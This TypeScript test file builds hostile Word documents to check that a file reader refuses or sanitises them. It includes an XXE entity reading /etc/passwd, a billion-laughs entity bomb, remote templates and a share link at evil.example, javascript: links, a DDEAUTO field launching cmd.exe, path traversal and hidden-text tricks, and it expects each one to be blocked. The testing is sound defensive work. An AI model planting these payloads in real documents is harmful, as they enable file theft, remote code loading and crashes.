import type { Expected, HostileFile } from './hostile-file.ts';
import { filled, joined, latin1, MEGABYTE, noise, SECOND, SENTENCE } from './making.ts';
import {
  relation,
  relations,
  TWO_PARAGRAPHS,
  WORD_NAMES,
  wordFile,
  wordParagraph,
  wordRun,
  type Parts,
} from './raw-office.ts';

type Made = Pick<HostileFile, 'make' | 'expected'>;
type Draft = Extract<Expected, { draft: unknown }>;

const WORDS = { holds: [SENTENCE, SECOND] };
const read = (body: string, parts: Parts = {}, more: Partial<Draft> = {}): Made => ({
  make: () => wordFile(body, parts),
  expected: { draft: [], ...WORDS, ...more },
});
const active = (parts: Parts, body = TWO_PARAGRAPHS): Made =>
  read(body, parts, { draft: ['unsafe-parts-removed'], lacks: ['javascript', 'evil.example'] });
const refused = (
  make: HostileFile['make'],
  code: 'unreadable-file' | 'archive-refused' | 'unknown-format' | 'password-protected' | 'empty-text',
): Made => ({ make, expected: { refused: code } });

const document = (before: string, body: string): Parts => ({
  'word/document.xml': `<?xml version="1.0"?>${before}<w:document ${WORD_NAMES}><w:body>${body}</w:body></w:document>`,
});
const linked = (target: string): Made =>
  active(
    { 'word/_rels/document.xml.rels': relations(relation('hyperlink', target, 'External')) },
    `${TWO_PARAGRAPHS}${wordParagraph(`<w:hyperlink r:id="rhyperlink">${wordRun('Here.')}</w:hyperlink>`)}`,
  );
const laughs = `<!DOCTYPE d [<!ENTITY l0 "ha">${Array.from(
  { length: 9 },
  (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`,
).join('')}]>`;
const table = (depth: number) =>
  `${'<w:tbl><w:tr><w:tc>'.repeat(depth)}${wordParagraph(SENTENCE)}${'</w:tc></w:tr></w:tbl>'.repeat(depth)}`;
const wrapped = (depth: number, tag: string) =>
  `${`<${tag}>`.repeat(depth)}${wordRun(SENTENCE)}${`</${tag}>`.repeat(depth)}`;
const ole = (word: string) =>
  joined(
    '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1',
    noise(600),
    [...word].map((it) => `${it}\0`).join(''),
    noise(600),
  );

const CASES: Readonly<Record<string, Made>> = {
  '200 MB of XML': refused(
    () =>
      wordFile('', { 'word/document.xml': filled(200 * MEGABYTE, '<w:p><w:r><w:t>ha</w:t></w:r></w:p>') }),
    'archive-refused',
  ),
  'an entity of the disk': refused(
    () =>
      wordFile('', {
        ...document(
          '<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
          `${TWO_PARAGRAPHS}${wordParagraph('&a;')}`,
        ),
      }),
    'unreadable-file',
  ),
  'entities that grow': refused(
    () => wordFile('', document(laughs, `${TWO_PARAGRAPHS}${wordParagraph('&l9;')}`)),
    'unreadable-file',
  ),
  'a document type of another place': read(
    '',
    document('<!DOCTYPE d SYSTEM "http://evil.example/d.dtd">', TWO_PARAGRAPHS),
  ),
  'a link that is a script': linked('javascript:alert(1)'),
  'a link that is a script in disguise': linked('java&#x09;script:alert(1)'),
  'a link to a file': linked('file:///etc/passwd'),
  'a link to a share': linked('\\\\evil.example\\share\\a.exe'),
  'a picture of the disk': active(
    { 'word/_rels/document.xml.rels': relations(relation('image', 'file:///etc/passwd', 'External')) },
    `${TWO_PARAGRAPHS}${wordParagraph('<w:r><w:drawing><a:blip xmlns:a="a" r:link="rimage"/></w:drawing></w:r>')}`,
  ),
  'a template from elsewhere': active({
    'word/_rels/settings.xml.rels': relations(
      relation('attachedTemplate', 'https://evil.example/a.dotm', 'External'),
    ),
  }),
  'a template from elsewhere, in single quotes': active({
    'word/_rels/settings.xml.rels': relations(
      `<Relationship Id='r1' Type='x/attachedTemplate' Target='https://evil.example/a.dotm' TargetMode='External'/>`,
    ),
  }),
  'an object inside': active({ 'word/embeddings/oleObject1.bin': noise(400) }),
  'a control inside': active({ 'word/activeX/activeX1.bin': noise(400) }),
  'a page inside': active(
    {
      'word/afchunk.htm': '<script>alert(1)</script><p>Buy the lamp.</p>',
      'word/_rels/document.xml.rels': relations(relation('aFChunk', 'afchunk.htm')),
    },
    `${TWO_PARAGRAPHS}<w:altChunk r:id="raFChunk"/>`,
  ),
  'a field that runs a program': active(
    {},
    `${TWO_PARAGRAPHS}<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>${wordRun('Update')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
  ),
  macros: refused(() => wordFile(TWO_PARAGRAPHS, { 'word/vbaProject.bin': noise(400) }), 'unknown-format'),
  'a password': refused(() => ole('EncryptedPackage'), 'password-protected'),
  'the format of 1997': refused(() => ole('WordDocument'), 'unknown-format'),
  'letters that are hidden': read(
    `${TWO_PARAGRAPHS}<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>Buy the lamp.</w:t></w:r></w:p>`,
    {},
    { draft: ['hidden-text'] },
  ),
  'no document': refused(() => wordFile('', { 'word/document.xml': '' }), 'unknown-format'),
  'no list of what is what': read(TWO_PARAGRAPHS, { '_rels/.rels': '' }),
  'no words': refused(() => wordFile(wordParagraph('…')), 'empty-text'),
  'a document that breaks off': refused(
    () => wordFile('', { 'word/document.xml': `<w:document ${WORD_NAMES}><w:body><w:p><w:r><w:t>Wo` }),
    'unreadable-file',
  ),
  'a document that is none': refused(
    () => wordFile('', { 'word/document.xml': noise(4000) }),
    'unreadable-file',
  ),
  'styles that are none': refused(
    () => wordFile(TWO_PARAGRAPHS, { 'word/styles.xml': '<w:styles' }),
    'unreadable-file',
  ),
  'styles that rest on each other': read(TWO_PARAGRAPHS, {
    'word/styles.xml': `<w:styles ${WORD_NAMES}><w:style w:type="paragraph" w:styleId="a"><w:basedOn w:val="b"/></w:style><w:style w:type="paragraph" w:styleId="b"><w:basedOn w:val="a"/></w:style></w:styles>`,
  }),
  'a relation that leads upwards': read(TWO_PARAGRAPHS, {
    '_rels/.rels': relations(relation('officeDocument', '../../../etc/passwd')),
  }),
  'tables in tables, 3,000 deep': refused(
    () => wordFile(`${TWO_PARAGRAPHS}${table(3000)}`),
    'unreadable-file',
  ),
  'elements in elements, 100,000 deep': refused(
    () => wordFile(`<w:p>${wrapped(100_000, 'w:ins')}</w:p>`),
    'unreadable-file',
  ),
  'a row of 20,000 cells': read(
    `${TWO_PARAGRAPHS}<w:tbl><w:tr>${`<w:tc>${wordParagraph('x')}</w:tc>`.repeat(20_000)}</w:tr></w:tbl>`,
  ),
  '100,000 empty paragraphs': read(`${TWO_PARAGRAPHS}${'<w:p/>'.repeat(100_000)}`),
  'a footnote that leads to itself': read(
    `${TWO_PARAGRAPHS}<w:p><w:r><w:footnoteReference w:id="2"/></w:r></w:p>`,
    {
      'word/footnotes.xml': `<w:footnotes ${WORD_NAMES}><w:footnote w:id="2"><w:p>${wordRun('Again')}<w:r><w:footnoteReference w:id="2"/></w:r></w:p></w:footnote></w:footnotes>`,
    },
  ),
  'letters turned round': read(
    `${TWO_PARAGRAPHS}${wordParagraph('\u202eexe.invoice\u200b')}`,
    {},
    { lacks: ['\u202e', '\u200b'] },
  ),
  'not an archive': refused(() => joined('PK\x03\x04', noise(4000)), 'archive-refused'),
  'a text under its name': { make: () => latin1(`${SENTENCE} ${SECOND}`), expected: { draft: [], ...WORDS } },
  'half of it': refused(async () => {
    const whole = await wordFile(TWO_PARAGRAPHS, { 'word/media/a.png': noise(4000) });
    return whole.slice(0, whole.length / 2);
  }, 'archive-refused'),
};

/** Word files that load, act, hide, nest without end, or lack what they need. */
export const wordFiles: readonly HostileFile[] = Object.entries(CASES).map(([name, it]) => ({
  fileName: 'letter.docx',
  ...it,
  name,
}));
